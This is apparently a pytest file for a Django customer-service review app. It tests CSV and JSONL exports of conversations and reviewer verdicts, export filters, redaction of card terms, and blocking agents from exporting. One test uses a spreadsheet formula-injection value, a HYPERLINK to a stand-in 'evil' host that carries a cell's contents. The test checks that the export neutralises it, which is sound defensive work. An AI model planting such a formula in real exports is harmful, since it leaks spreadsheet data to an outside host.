"""Downloads: the conversation CSV and reviewer verdicts as labelled data."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from karib import tone
from karib.service import services

from .factories import (
    PUSHY_ID,
    agent_user,
    conversation_from_text,
    import_files,
    jsonl_line,
    reviewer_user,
    service_team,
)

pytestmark = pytest.mark.django_db


def test_the_export_neutralises_spreadsheet_formulas(team, lina, client_for):
    # given conversations whose ID and agent name start like spreadsheet formulas
    agent_user(team)
    body = jsonl_line(
        '=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "Terima kasih"
    ) + jsonl_line("+1-2", "-cmd", "Halo")
    import_files(lina, team, [("x.jsonl", body.encode())])

    # when the reviewer exports
    response = client_for(lina).get(reverse("service:export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    # then every such cell is prefixed with ' and stays text
    cells = {(row[1], row[3]) for row in rows[1:]}
    assert cells == {('\'=HYPERLINK("http://evil/?"&A1,"x")', "'@SUM(1+1)"), ("'+1-2", "'-cmd")}


def test_the_export_follows_the_list_filters_and_an_invalid_one_exports_nothing(
    team, lina, client_for
):
    agus = agent_user(team)
    conversation_from_text(PUSHY_ID, team=team, agent=agus)
    client = client_for(lina)

    def exported(query: str) -> list[list[str]]:
        response = client.get(reverse("service:export") + query)
        return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert len(exported("")) == 2  # the header and the one conversation
    assert len(exported("?team=" + str(team.pk))) == 2
    assert exported("?channel=carrier-pigeon") == [exported("")[0]]  # the header only


def _reviewed(team, lina):
    agus = agent_user(team)
    conversation = conversation_from_text(PUSHY_ID, team=team, agent=agus)
    services.review_save(
        conversation=conversation,
        verdicts={"push_after_refusal": "agree", "tone_shift": "disagree"},
        comment="",
        qa_score=None,
        by=lina,
    )
    return conversation


def test_reviewer_verdicts_are_exported_as_labelled_data(team, lina, client_for):
    # given a reviewed conversation, and one in another team
    conversation = _reviewed(team, lina)
    other_team = service_team("Loans")
    _reviewed(other_team, reviewer_user(other_team, username="omar"))
    client = client_for(lina)

    # when the reviewer downloads the verdicts as CSV and as JSONL
    as_csv = client.get(reverse("service:verdicts-export", args=["csv"]))
    as_jsonl = client.get(reverse("service:verdicts-export", args=["jsonl"]))

    # then one row per verdict and turn, of her team's conversations only, with the turn text
    rows = list(csv.DictReader(io.StringIO(b"".join(as_csv.streaming_content).decode())))
    records = [json.loads(line) for line in b"".join(as_jsonl.streaming_content).splitlines()]
    assert records == [{**row, "turn": int(row["turn"])} for row in rows]
    push = conversation.findings.get(code="push_after_refusal")
    pushes = [r for r in records if r["finding_code"] == "push_after_refusal"]
    assert [r["turn"] for r in pushes] == push.turns
    texts = {int(t["index"]): t["text"] for t in conversation.turns}
    assert all(r["text"] == texts[r["turn"]] for r in records)
    assert {r["conversation_id"] for r in records} == {conversation.external_id}
    assert {(r["finding_code"], r["verdict"]) for r in records} == {
        ("push_after_refusal", "agree"),
        ("tone_shift", "disagree"),
    }
    assert as_csv["Content-Disposition"].endswith('.csv"')


def test_verdicts_are_redacted_when_exported(team, lina, client_for, monkeypatch):
    # given an engine that redacts (here: a stand-in that removes one word), and a transcript
    # stored before redaction was on
    monkeypatch.setattr(
        tone, "redact", lambda text: text.replace("platinum", "[card]"), raising=False
    )
    _reviewed(team, lina)

    body = b"".join(
        client_for(lina).get(reverse("service:verdicts-export", args=["jsonl"])).streaming_content
    ).decode()

    # the push turn ("Upgrade ke kartu platinum gratis") is exported without the word
    assert "kartu [card] gratis" in body
    assert "platinum" not in body


def test_agents_do_not_export_verdicts(team, client_for):
    agus = agent_user(team)
    response = client_for(agus).get(reverse("service:verdicts-export", args=["csv"]))
    assert response.status_code == 403
